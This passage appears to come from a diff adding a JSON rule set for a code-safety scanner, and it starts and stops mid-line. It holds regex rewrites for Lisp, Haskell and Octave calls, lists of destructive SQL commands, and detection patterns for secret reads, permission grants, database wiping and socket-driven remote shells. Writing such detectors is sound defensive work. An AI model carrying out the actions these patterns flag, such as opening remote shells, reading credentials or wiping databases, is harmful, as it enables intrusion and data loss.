+r $1 of "],["\\\\(\\\\s*(?:let\\\\*?|if_let\\\\*?|when_let\\\\*?)\\\\s+\\\\(\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+","; $1 = ("],["(?<=\\\\)\\\\s{0,9})\\\\(\\\\s{0,9}(\\\\w+)\\\\s+(?=\\\\([^()]*\\\\)\\\\s*\\\\)\\\\\
+s*\\\\)?\\\\s*\\\\()","; $1 = ("],["\\\\(\\\\s*(?:setq|defvar|defconst|defparameter|define|setf)\\\\s+(\\\\w+)\\\\s+","; $1 = ("],["\\\\(\\\\s*(?:defun|define)\\\\s+\\\\(?(\\\\w+)\\\\s+\\\\(\
+?([^()]*)\\\\)","; function $1($2) { "],["\\\\(\\\\s*lambda\\\\s+\\\\(([^()]*)\\\\)\\\\s*","(($1) => "],["\\\\(\\\\s*(?:progn|begin|when|unless|if|and|or|condition_case|ignore_er\
+rors|save_excursion|display)\\\\s","; ("],["['#]{1,2}(?=[(\\\\w])",""],["\\\\(\\\\s*(?:expand_file_name|merge_pathnames)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s+(\\\\w+|\\"\\\\d+|\\\\([^()]*\\\\)\
+|\\"\\\\d+\\")\\\\s*\\\\)","join_path($2, $1)"],["\\\\(\\\\s*(\\\\w[\\\\w/:]*)(?=[\\\\s)])\\\\s*","$1("],["((?:\\"\\\\d+\\"|\\\\)|(?<![=>]\\\\s{0,4})\\\\b(?!of\\\\b|for\\\\b|function\\\\b)\\\\w+))\\\\\
+s+(?=[\\"\\\\w(])(?!of\\\\b|=)","$1, "],[",\\\\s*(?:nil|t)\\\\b",""]]},"haskell":{"comment":"\\\\{-[\\\\s\\\\S]*?-\\\\}|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'(?\
+:[^'\\\\\\\\]|\\\\\\\\.)'","rewrites":[["^import\\\\b[^\\\\n]*",""],["\\\\b(?:[A-Z]\\\\w*\\\\.)+(?=[a-z])",""],["<-","="],["<>|\\\\+\\\\+","+"],["<\\\\/>","/"],["\\\\b(\\\\w+)\\\\s*=\\\\s*getH\
+omeDirectory\\\\b","$1 = \\"~\\""],["\\\\blet\\\\s+(?=\\\\w+\\\\s*=)",""],["\\\\b(?:mapM_|traverse_|forConcurrently_)\\\\s+(\\\\w+)\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","map($1, $2)"],["\\\
+\\bforM_\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)\\\\s*\\\\$?\\\\s*\\\\\\\\(\\\\w+)\\\\s*->","for ($2 of $1); "],["\\\\b(callCommand|system|shell|spawnCommand|remove\\\\w+|readFile|words)\\\\s+(?\
+:\\\\$\\\\s*)?(?=[\\"(\\\\w])(\\"\\\\d+\\"(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\w+(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\([^()]*\\\\))","$1($2)"],["\\\\b(callProcess|readProc\
+ess|rawSystem)\\\\s+(\\"\\\\d+\\")\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\])","spawn($2, $3)"],["\\\\b(writeFile|appendFile)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\([^()]*\\\\))\\\\s+(\\"\\\\d+\\"|\\\\w+)","$1($2, $3)\
+"]]},"octave":{"comment":"[%#][^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|(?<![\\\\w)\\\\]}])'((?:[^'\\\\n]|'')*)'","rewrites":[["\\\\brmdir\\\\s*\\\\(([^(),]*),\\\\s\
+*\\"\\\\d+\\"\\\\s*\\\\)","rm_rf($1)"],["\\\\b(?:delete|unlink)\\\\s*\\\\(","remove("],["\\\\b(?:unix|dos|shell_cmd)\\\\s*\\\\(","system("],["\\\\bfullfile\\\\s*\\\\(","join_path("],["\\\\\
+{([^{};]*\\"[^{};]*)\\\\}","[$1]"],["\\\\[\\\\s*(\\"\\\\d+\\")\\\\s+(?=[\\"\\\\w])","[$1, "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*=\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","for ($1 of $2);"],["(\\\\b[a-z]\\\
+\\w*)\\\\{[\\\\w:]+\\\\}","$1"]]}},"awk":{"comment":["#"],"sigils":"","interpolation":"none","triple":false,"single_escapes":true,"quoting":"none","patterns":true,"lin\
+es":"statements"},"operators":{"||":1,"??":1,"or":1,"&&":2,"and":2,"==":3,"!=":3,"===":3,"!==":3,"<":3,">":3,"<=":3,">=":3,"=~":3,"in":3,"is":3,"..":3,"|":4,"^"\
+:5,"&":6,"<<":7,">>":7,"+":8,"-":8,".":8,"*":9,"/":9,"%":9,"//":9,"x":9,"**":10},"sql":[{"words":[["TRUNCATE"],["TABLE"]],"does":"truncate","name":2},{"words":[\
+["TRUNCATE"]],"does":"truncate","name":1},{"words":[["CREATE"],["USER","ROLE","LOGIN"]],"does":"create-user","name":2},{"words":[["ALTER"],["USER","ROLE","LOGIN\
+"]],"does":"alter-user","name":2},{"words":[["ALTER"],["SYSTEM"]],"does":"set-global","name":3},{"words":[["SET"],["GLOBAL","PERSIST"]],"does":"set-global","nam\
+e":2},{"words":[["PRAGMA"],["WRITABLE_SCHEMA"]],"does":"set-global","name":1},{"words":[["GRANT"]],"does":"grant","all":true},{"words":[["REVOKE"]],"does":"revo\
+ke","all":true},{"words":[["SHUTDOWN"]],"does":"shutdown"},{"words":[["ATTACH"],["DATABASE"]],"does":"attach","name":2},{"words":[["ATTACH"]],"does":"attach","n\
+ame":1},{"words":[["KILL"]],"does":"kill","name":1},{"words":[["FLUSHALL","FLUSHDB"]],"does":"flush","name":0},{"words":[["CREATE"],["DATABASE","SCHEMA"]],"does\
+":"create","name":2},{"words":[["PURGE"]],"does":"purge","name":1},{"words":[["CONFIG"],["SET"],["DIR","DBFILENAME"]],"does":"set-global","name":2},{"words":[["\
+RESET"],["MASTER","REPLICA","SLAVE"]],"does":"purge","name":1}],"signs":{"name-tests":["[=!<>]=|[<>]|\\\\b(?:in|match)\\\\b|=~|\\\\b(?:endswith|startswith|endsWith|st\
+artsWith|includes|test|match|search|end_with\\\\?|start_with\\\\?)"],"kind-tests":["is_?(?:dir|file|link|symlink)|isDirectory|isFile|isSymbolicLink|exists|(?:direct\
+ory|file|exist)\\\\?|-[dfel]\\\\b","i"],"age-tests":["[acm]time|birthtime|\\\\bst_size|getsize|\\\\.size\\\\b|file(?:size|mtime)|\\\\s-[MAC]\\\\s"],"secret-methods":["^(?:get\
+|batch_?get)_?secret_?values?$|^(?:access_?secret_?version|get_?secret|read_?secret(?:_?version)?|get_?(?:frozen_?)?credentials)$|^(?:list|read)_?(?:namespaced_\
+?)?secret(?:_?for_?all_?namespaces)?$","i"],"granting-methods":["^(?:attach|put)_?(?:user|role|group)_?policy(?:_?command)?$|^authorize_?security_?group_?ingres\
+s(?:_?command)?$|^(?:create_?access_?key|add_?user_?to_?group|put_?bucket_?(?:policy|acl))(?:_?command)?$","i"],"emptying-methods":["^(?:empty|obliterate|clear|\
+drop|flush_?(?:all|db|database))(?:_?(?:async|sync))?$|^(?:refresh|drop|reset|clear|wipe|truncate|purge)_?(?:all|db|database|schema|tables?|collections?|storage\
+)(?:_?(?:async|sync))?$","i"],"own-addresses":["\\\\blocalhost\\\\b|\\\\b127\\\\.\\\\d|\\\\b0\\\\.0\\\\.0\\\\.0\\\\b|\\\\[?::1\\\\b|^(?:unix|file|sqlite):|^\\\\.{0,2}/"],"service-options\
+":["api_?key|token|secret|credential|password|authorization|access_?key|^(?:basic_?)?auth$|^endpoint$|^(?:base|prefix|org|server|api)_?ur[li]$|^(?:hosts?|server\
+s?|brokers|bootstrap_?servers)$|(?:project|account|subscription|site|space|app|tenant)_?id$","i"],"service-variables":["TOKEN|KEY|SECRET|PASS|PAT$|AUTH|CRED|ACC\
+OUNT|ENDPOINT|DSN|(?:UR[LI]|HOST|_ID|SID|DOMAIN|SERVER)$"],"service-addresses":["^(?:https?|wss?|grpcs?|nats|amqps?|ldaps?)://[^/]|^(?:[\\\\w-]+\\\\.)+(?:com|net|or\
+g|io|dev|local|internal|cloud|corp)(?::\\\\d+)?$|^\\\\d+\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+(?::\\\\d+)?$"],"own-data-modules":["^(?:\\\\.{1,2}|@|~)/(?:[\\\\w./-]*[/.-])?(?:db|database|\
+data-?source|orm|prisma|knex|sequelize|mongoose|models?)(?:[/.-]|$)","i"],"client-makers":["^[A-Z]|^(?:create|connect|init|make|open|new|from|extend|with|get_?c\
+lient)|(?:client|driver|session|pool|engine|connection|sdk|api)$","i"],"negative-tests":["\\\\bnot\\\\b|!=|!~|!\\\\s*\\\\(?[\\\\w.]+|\\\\bunless\\\\b|\\\\breject\\\\b"],"skips":[\
+"\\\\b(?:continue|next|return)\\\\b"],"stdin-names":["^(?:0|-|/dev/(?:stdin|fd/0)|/proc/self/fd/0|php://stdin)$"],"mock-options":["^(?:spec|spec_set|autospec|create\
+|name|unsafe|new_callable|target|attribute|new)$"],"writing-flags":["^File\\\\.(?:Constants\\\\.)?(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$|^(?:os|fs\\\\.constants|constant\
+s)?\\\\.?O_(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$"],"sending-methods":["gist|upload|put_?object|comment|send|post","i"],"deleting-requests":["^DELETE(?: /|$)|\\\\bmuta\
+tion\\\\b[\\\\s\\\\S]*(?:\\\\bdelete|Delete)\\\\w*\\\\s*\\\\("],"place-options":["ur[li]|host|server|endpoint|address|database|^db|file|storage|^path$|dsn","i"],"passing-data\
+":["^memory://|:memory:|^(?:sqlite\\\\w*(?:\\\\+\\\\w+)?:/{2,3})?/tmp/|^sqlite://$|^mock$"],"passing-databases":["^(?::memory:$|/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.))\
+|^(?:[\\\\w.-]+/)*(?:test|tests|tmp|scratch)(?:[_-][\\\\w-]*)?\\\\.(?:db|sqlite3?)$"],"harmless-names":["^(?:None|null|undefined|true|false|True|False|(?:\\\\w+\\\\.)*\\\\w\
+*(?:Error|Exception|DEFAULT|Exit|Interrupt))$"],"file-calls":["^(?:os\\\\.(?:remove|unlink|rmdir|removedirs|rename|replace|truncate)|shutil\\\\.\\\\w+|pathlib\\\\.\\\\w+)\
+$"],"imitation":["^[^#\\\\n]*(?:\\\\b(?:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:fakeredis|mongomock|pymongo_inmemory|ioredis-mock|redis-mock)\\\\b|^[^#\\\\n]*(?:\\\\b(?:\
+import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:mongodb-memory-server|pg-mem|testcontainers)\\\\b|^from sqlalchemy import .*\\\\bcreate_mock_engine\\\\b|\\\\b(?:miniredis\\\\.(?\
+:Run|RunT|NewMiniRedis)|sqlmock\\\\.New|pgxmock\\\\.New\\\\w*|redismock\\\\.New\\\\w*)\\\\(|^(?![\\\\s\\\\S]*\\\\b(?:DBI|dbi):(?!Mock\\\\b))[\\\\s\\\\S]*\\\\b(?:DBI|dbi):Mock:","m"],"lin\
+ks-repositories":["worktree|symlink|gitdir|git-dir|\\\\.git['\\"]"],"own-folder":["getcwd|\\\\bcwd\\\\(|__dirname|__file__|abspath|resolve|pwd"],"in-memory":["['\\"](?:\
+sqlite3?:(?:\\\\/\\\\/)?|(?:dbi|DBI):SQLite:(?:dbname=)?)\\\\/(?:tmp|var\\\\/tmp|dev\\\\/shm)\\\\/(?![^'\\"]*\\\\.\\\\.)|['\\"](?:Data ?Source=)?[\\\\w:=/+]*:memory:['\\";]|['\\"]jdb\
+c:(?:h2|hsqldb|derby|sqlite)::?mem|\\\\bSQLite\\\\.DB\\\\(\\\\s*\\\\)|\\\\bSequel\\\\.sqlite\\\\b(?!\\\\s*\\\\(?\\\\s*['\\"])|['\\"]sqlite:\\\\/\\\\/['\\"]"],"database":["\\\\b(?:mongodb|post\
+gres|mysql|mariadb|redis|rediss|mssql|oracle)\\\\w*(?:\\\\+\\\\w+)?:\\\\/\\\\/|['\\"](?!django)[\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]","i"],"driver":["\\\\b(?:psycopg\\\\d?|asyncpg|\
+aiopg|pymysql|MySQLdb|mysql2?|mariadb|cx_Oracle|oracledb|pyodbc|pymssql|pymongo|motor)\\\\b|\\\\b(?:mongoose|mongodb|ioredis|snowflake|clickhouse\\\\w*|DATABASE_URL|D\
+B_URL)\\\\b|['\\"]pg['\\"]"],"own-connection":["(?:^|[\\\\n;])\\\\s*(?:from|import)\\\\s+(?!(?:sqlalchemy|sqlmodel|sqlite3|aiosqlite|tempfile|os|sys|pathlib|shutil|json|r\
+e|time|datetime|contextlib|asyncio|typing|uuid|random|pytest|unittest|pandas|dataclasses|textwrap|subprocess|logging|decimal|enum|collections|itertools|functool\
+s|alembic)\\\\b)\\\\w|['\\"](?:\\\\.{1,2}|@|~)\\\\/|\\\\bargv\\\\b|\\\\bsymlink|\\\\(\\\\s*['\\"][\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]|(?:sqlite3|apsw)\\\\.Connection|SqliteDatabase"],"em\
+ulated":["^(?![\\\\s\\\\S]*https?:\\\\/\\\\/(?!localhost|127\\\\.))[\\\\s\\\\S]*(?:UseDevelopmentStorage=true|\\\\bapi_base\\\\b[^\\\\n]*['\\"]http:\\\\/\\\\/(?:localhost|127\\\\.))"],"da\
+ta-library":["(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:mikro-orm|typeorm|prisma|sequelize|drizzle|kysely|objection|bookshelf|peewee)|(?:import|from|r\
+equire\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:tortoise|pony|sqlalchemy|sqlmodel|databases|neo4j|cassandra)|(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:rethinkdb|s\
+urrealdb|influx|libsql|neon|planetscale|duckdb|rq|bull)|\\\\b\\\\w*(?:DATABASE|DB|MONGO|REDIS|POSTGRES|PG|MYSQL)_?(?:URL|URI|DSN)\\\\b","i"],"database-address":["^(?!\
+[\\\\s\\\\S]*['\\"]sqlite:)[\\\\s\\\\S]*(?:\\\\w:\\\\/\\\\/|D(?:ATA)?B(?:ASE)?_UR[IL]\\\\b)"],"attaches":["\\\\bATTACH\\\\b","i"],"key-store":["redis|valkey|keydb|memcache","i"],"un\
+conditional":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|next|select|reject|filter|break|limit|take|first|case)\\\\b|\\\\?))[\\\\s\\\\S]*\\\\w"],"http-client":["^(?!(?:(?![\\\\s\\\\S]*\
+(?:new [\\\\w\\\\\\\\]*Client\\\\b[\\\\s\\\\S]*){2})[\\\\s\\\\S]*\\\\bMock(?:Handler|HttpClient|Response)\\\\b)|[\\\\s\\\\S]*\\\\bHttp::fake\\\\b)[\\\\s\\\\S]*\\\\b(?:GuzzleHttp|HttpClient)\\\\b"]\
+,"stubbed-services":["^(?![\\\\s\\\\S]*(?:Client|Resource)\\\\.new\\\\b(?!\\\\([^)]*\\\\bstub_responses: true\\\\b))[\\\\s\\\\S]*\\\\bstub_responses: true\\\\b"],"stubbed-requests":[\
+"^(?![\\\\s\\\\S]*(?:axios|(?:node|cross)-fetch|superagent|needle|\\\\bky\\\\b|request['\\"]|phin|bent|wretch|['\\"](?:got|https?|http2|net|node:\\\\w+|child_process)['\\"]|\
+enableNetConnect|\\\\bif\\\\b))[\\\\s\\\\S]*\\\\bnew MockAgent\\\\(\\\\)[\\\\s\\\\S]*\\\\bdisableNetConnect\\\\(\\\\)[\\\\s\\\\S]*\\\\bsetGlobalDispatcher\\\\(|^(?![\\\\s\\\\S]*(?:allow_net_connec\
+t|disable!|\\\\bif\\\\b|\\\\bunless\\\\b))(?=[\\\\s\\\\S]*?\\\\brequire [\\"']webmock)(?=[\\\\s\\\\S]*?(?:webmock/(?:rspec|minitest)[\\"']|WebMock\\\\.enable!))[\\\\s\\\\S]*?\\\\bstub_requ\
+est\\\\b"],"dry-files":["^(?![\\\\s\\\\S]*\\\\b(?:FileUtils(?:\\\\.|::(?![DN])\\\\w)|include FileUtils(?!::)|(?:class|module)\\\\s|(?:File(?!\\\\.join)|Dir|Pathname)\\\\b))[\\\\s\\\\\
+S]*\\\\binclude FileUtils::(?:DryRun|NoWrite)\\\\b"],"lists-processes":["^(?![\\\\s\\\\S]*\\\\b(?:if|select|grep|when|unless|filter)\\\\b[^\\\\n]*\\\\b(?:comm|cmdline|exe|statu\
+s|environ|cwd)\\\\b)[\\\\s\\\\S]*[\\"']/proc(?:[\\"']|/(?:\\\\*|\\\\[|\\\\\\\\d))"],"prints-names":["^(?![\\\\s\\\\S]*(?:\\\\b(?:requests|urllib|https?|fetch|sockets?|smtplib|subproc\
+ess|child_process|popen|system|spawn\\\\w*|exec\\\\w*|eval|compile|__import__|getattr|setattr|globals|vars|write\\\\w*|append\\\\w*|dump\\\\w*|pickle|logg\\\\w+|logging|std\
+out|stderr|raise|throw|assert|environ|send\\\\w*|post|upload|copy\\\\w*|rename|move|sys|pprint|warn|puts|echo|def|class|lambda|function|function\\\\*|while|reverse\\\\w\
+*)\\\\b|import\\\\(|process\\\\.(?!exit)|console\\\\.(?!log\\\\()|open\\\\([^()\\\\n]*,|\\\\b(?!(?:print|open|split|strip|partition|startswith|sorted|list|len|set|join|keys|dot\
+env_values|readlines|read|splitlines|match|search|group|if|in|not|and|or|with)\\\\b)\\\\w+ ?\\\\(|[\\\\w)}\\\\]]\\\\[(?![01]\\\\])|\\\\}\\\\[|\\\\bopen\\\\((?!['\\\\\\"][\\\\w./]+['\\\\\\"]\\\
+\\))|:=|\\\\bas (?!f\\\\b)|\\\\bimport (?!re\\\\b|os\\\\b|dotenv)|\\\\bfrom (?!dotenv)|\\\\bfor\\\\b(?! l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.\
+read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?|f)(?::| if|[)\\\\]]))|\\\\b(?!(?:maxsplit|sep)\\\\b)(?!(?:keys|names) ?= ?(?:sorted\\\\(|set\\\\()?[\\\\[{(]?l(?:ine)?\\\\.(?:strip\\\\(\\\\)\\\\.)?\
+(?:split\\\\(['\\\\\\"]=['\\\\\\"](?:, ?(?:maxsplit=)?1)?\\\\)|partition\\\\(['\\\\\\"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\))? for l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\
+\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?|f)(?: if [^\\\\n;]*)?\\\\n)\\\\w+ ?=(?!=)|\\\\bre\\\\.|\\\\bprint\\\\b(?!\\\\((?:(?:['\\\\\\"][^'\\\\\\"{}%\\\\n]*['\\\\\\"]\\\\.\
+join\\\\(|sorted\\\\(|len\\\\(|\\\\*)*(?:keys|names)\\\\)*(?:, ?sep=['\\\\\\"][^'\\\\\\"{}%\\\\n]*['\\\\\\"])?|l(?:ine)?\\\\.(?:strip\\\\(\\\\)\\\\.)?(?:split\\\\(['\\\\\\"]=['\\\\\\"](?:, ?(?:maxs\
+plit=)?1)?\\\\)|partition\\\\(['\\\\\\"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\))?|\\\\[l(?:ine)?\\\\.(?:strip\\\\(\\\\)\\\\.)?(?:split\\\\(['\\\\\\"]=['\\\\\\"](?:, ?(?:maxsplit=)?1)?\\\\)|p\
+artition\\\\(['\\\\\\"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\))? for l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.splitlines\\\\(\
+\\\\))?|f)(?: if [^()\\\\n]*)?\\\\]|(?:sorted|list|len|set)\\\\((?:l(?:ine)?\\\\.(?:strip\\\\(\\\\)\\\\.)?(?:split\\\\(['\\\\\\"]=['\\\\\\"](?:, ?(?:maxsplit=)?1)?\\\\)|partition\\\\(['\\\\\\\
+"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\))? for l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?|f)(?: if [\
+^()\\\\n]*)?|dotenv_values\\\\(['\\\\\\"][\\\\w./]*['\\\\\\"]\\\\)(?:\\\\.keys\\\\(\\\\))?)\\\\)|\\\\*?(?:sorted|list)\\\\(dotenv_values\\\\(['\\\\\\"][\\\\w./]*['\\\\\\"]\\\\)(?:\\\\.keys\\\\(\\\\))?\\\\),\
+ ?sep=['\\\\\\"][^'\\\\\\"{}%\\\\n]*['\\\\\\"]|['\\\\\\"][^'\\\\\\"{}%\\\\n]*['\\\\\\"]\\\\.join\\\\((?:sorted\\\\()?(?:dotenv_values\\\\(['\\\\\\"][\\\\w./]*['\\\\\\"]\\\\)(?:\\\\.keys\\\\(\\\\))?|l(?:ine)\
+?\\\\.(?:strip\\\\(\\\\)\\\\.)?(?:split\\\\(['\\\\\\"]=['\\\\\\"](?:, ?(?:maxsplit=)?1)?\\\\)|partition\\\\(['\\\\\\"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\))? for l(?:ine)? in (?:open\\\\\
+(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?|f)(?: if [^()\\\\n]*)?)\\\\)?\\\\)|['\\\\\\"][^'\\\\\\"{}%\\\\n]*['\\\\\\"])\\\\)\\\\s*(?:$|[\\\\n;]\
+))))[\\\\s\\\\S]*\\\\bprint\\\\(|^(?![\\\\s\\\\S]*(?:\\\\b(?:requests|urllib|https?|fetch|sockets?|smtplib|subprocess|child_process|popen|system|spawn\\\\w*|exec\\\\w*|eval|compi\
+le|__import__|getattr|setattr|globals|vars|write\\\\w*|append\\\\w*|dump\\\\w*|pickle|logg\\\\w+|logging|stdout|stderr|raise|throw|assert|environ|send\\\\w*|post|upload|c\
+opy\\\\w*|rename|move|sys|pprint|warn|puts|echo|def|class|lambda|function|function\\\\*|while|reverse\\\\w*)\\\\b|import\\\\(|process\\\\.(?!exit)|console\\\\.(?!log\\\\()|open\
+\\\\([^()\\\\n]*,|\\\\b(?!(?:print|open|split|strip|partition|startswith|sorted|list|len|set|join|keys|dotenv_values|readlines|read|splitlines|match|search|group|if|i\
+n|not|and|or|with)\\\\b)\\\\w+ ?\\\\(|[\\\\w)}\\\\]]\\\\[(?![01]\\\\])|\\\\}\\\\[|\\\\bopen\\\\((?!['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\))|:=|\\\\bas (?!f\\\\b)|\\\\bimport (?!re\\\\b|os\\\\b|dotenv)|\\\\bfr\
+om (?!dotenv)|\\\\bfor\\\\b(?! l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?|f)(?::| if|[)\\\\]]))|\\\\b(?!m \
+?=)\\\\w+ ?=(?!=)|\\\\bm ?=(?! ?re\\\\.)|\\\\bprint\\\\b(?!\\\\(m(?:\\\\.group\\\\(1\\\\)|\\\\[1\\\\])\\\\)\\\\s*(?:$|[\\\\n;]))|\\\\bre\\\\.[\\\\s\\\\S]*\\\\bre\\\\.))(?=[\\\\s\\\\S]*re\\\\.(?:match|search\
+)\\\\(r?['\\\\\\"](?:\\\\^|\\\\\\\\s\\\\*|\\\\(\\\\?:export\\\\\\\\s\\\\+\\\\)\\\\?)*\\\\((?:\\\\[[\\\\w-]+\\\\]|\\\\\\\\w)[+*]?(?:\\\\[[\\\\w-]+\\\\][+*]?)?\\\\)(?:\\\\\\\\s\\\\*)?=['\\\\\\"], l(?:ine)?\\\\))[\\\\s\\\\S]*\
+\\\\bprint\\\\(|^(?![\\\\s\\\\S]*(?:\\\\b(?:requests|urllib|https?|fetch|sockets?|smtplib|subprocess|child_process|popen|system|spawn\\\\w*|exec\\\\w*|eval|compile|__import__\
+|getattr|setattr|globals|vars|write\\\\w*|append\\\\w*|dump\\\\w*|pickle|logg\\\\w+|logging|stdout|stderr|raise|throw|assert|environ|send\\\\w*|post|upload|copy\\\\w*|renam\
+e|move|sys|pprint|warn|puts|echo|def|class|lambda|function|function\\\\*|while|reverse\\\\w*)\\\\b|import\\\\(|process\\\\.(?!exit)|console\\\\.(?!log\\\\()|open\\\\([^()\\\\n]*,\
+|\\\\b(?!(?:require|readFileSync|parse|config|keys|log|sort|join|stringify)\\\\b)\\\\w+ ?\\\\(|\\\\]\\\\s?\\\\(|\\\\brequire\\\\((?!['\\\\\\"][\\\\w:/-]+['\\\\\\"]\\\\))|\\\\bparse\\\\((?<!dot\
+env['\\\\\\"]\\\\)\\\\.parse\\\\()(?<!dotenv\\\\.parse\\\\()|\\\\bnew\\\\b|\\\\bdotenv ?=(?! ?require\\\\(['\\\\\\"]dotenv['\\\\\\"]\\\\))|console\\\\.log(?!\\\\((?:JSON\\\\.stringify\\\\()?Object\\\
+\\.keys\\\\((?:require\\\\(['\\\\\\"]dotenv['\\\\\\"]\\\\)|dotenv)\\\\.(?:parse|config)\\\\([\\\\w.'\\\\\\"(),/:{} -]*\\\\)(?:\\\\.(?:sort|join|length)\\\\b(?:\\\\(['\\\\\\"\\\\\\\\n, ]*\\\\))?)*\\\\)?\
+\\\\)\\\\s*(?:$|[\\\\n;]))))[\\\\s\\\\S]*console\\\\.log\\\\("],"leaves-order":["\\\\\\\\\\\\r?\\\\n|\\\\bgoto\\\\b"],"variable-file":["(?:^|/)\\\\.env(?:\\\\.[\\\\w-]+)*$"],"network":["\\\\b(?:\
+\\\\w*Socket|socket|net\\\\.(?:Listen|Dial|Conn)|http\\\\.(?:Request|HandleFunc|ListenAndServe)|Tcp(?:Listener|Stream|Client)|gen_tcp|HttpListener|HttpServer)\\\\b"],"s\
+erves":["\\\\b(?:import|from)\\\\s+(?:flask|bottle|fastapi|starlette|quart|sanic|aiohttp|litestar|robyn)\\\\b"],"respawns":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|case|swit\
+ch|when|argv|ARGV|environ|env|ENV|sleep|reload|watch\\\\w*)\\\\b|\\\\?|&&))[\\\\s\\\\S]*\\\\b(?:spawn|Popen|popen|fork|exec|execFile|proc_open|Start|start)\\\\w*[ (]{1,3}[^;\\\
+\\n]{0,60}(?:execPath|executable|\\\\$\\\\^X|\\\\bruby)\\\\b[^;\\\\n]{0,20}\\\\b(?:__filename|__file__|__FILE__|PROGRAM_NAME)\\\\s?\\\\]?\\\\)|^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|case\
+|switch|argv)\\\\b|\\\\?|&&))[\\\\s\\\\S]*(?:\\\\bfunction\\\\s{1,3}(\\\\w{1,40})\\\\s?\\\\([^)\\\\n]{0,99}\\\\)|\\\\b(?:const|let|var)\\\\s(\\\\w{1,40})\\\\s?=\\\\s?\\\\([^)\\\\n]{0,99}\\\\)\\\\s?=>)\
+\\\\s?\\\\{[^}]{0,200}\\\\b(?:spawn|execFile|exec|fork)\\\\w{0,9}\\\\([^;]{0,100}(?:\\\\+ ?\\\\1\\\\2\\\\b(?! ?\\\\()|\\\\$\\\\{\\\\1\\\\2\\\\}|\\\\b\\\\1\\\\2\\\\.toString\\\\()"],"remote-shell":["^(\
+?=[\\\\s\\\\S]*?(?:IO::Socket|\\\\bsocket\\\\s?\\\\())[\\\\s\\\\S]*\\\\$(\\\\w{1,40})\\\\s*=\\\\s*<\\\\$\\\\w{1,40}>[\\\\s\\\\S]{0,400}(?:\\\\b(?:system|exec|qx|readpipe|open)\\\\b|\`)[^;\\\\n]{0,4\
+0}\\\\$\\\\1\\\\b|^(?=[\\\\s\\\\S]*?(?:createServer|net\\\\.connect|createConnection|net\\\\.Socket|WebSocket))[\\\\s\\\\S]*?\\\\b(?<child>\\\\w{1,40})\\\\s?=\\\\s?(?:[\\\\w.]{0,40}\\\\.)?(?\
+:spawn|execFile)\\\\s?\\\\(\\\\s?['\\\\\\"\`](?:/usr)?(?:/bin/)?(?:ba|z|k|da)?sh['\\\\\\"\`][\\\\s\\\\S]{0,2000}?\\\\.pipe\\\\(\\\\s?\\\\k<child>\\\\.stdin|\\\\.(?:get|post|put|patch|all|use\
+)\\\\(\\\\s?['\\\\\\"\`][^'\\\\\\"\`\\\\n]{0,80}['\\\\\\"\`],\\\\s?(?:async\\\\s)?\\\\(?(?<request>\\\\w{1,20})\\\\s?,\\\\s?\\\\w{1,20}\\\\)?\\\\s?=>[\\\\s\\\\S]{0,400}?\\\\b(?:exec|execSync|spawn|spawn\
+Sync|eval)\\\\(\\\\s?(?:String\\\\()?\\\\k<request>\\\\.(?:body|query|params)\\\\b|^(?=[\\\\s\\\\S]*?\\\\bnet\\\\.(?:Listen|Dial)\\\\()[\\\\s\\\\S]*\\\\bexec\\\\.Command\\\\(\\\\\\"(?:/usr)?(?:/b\
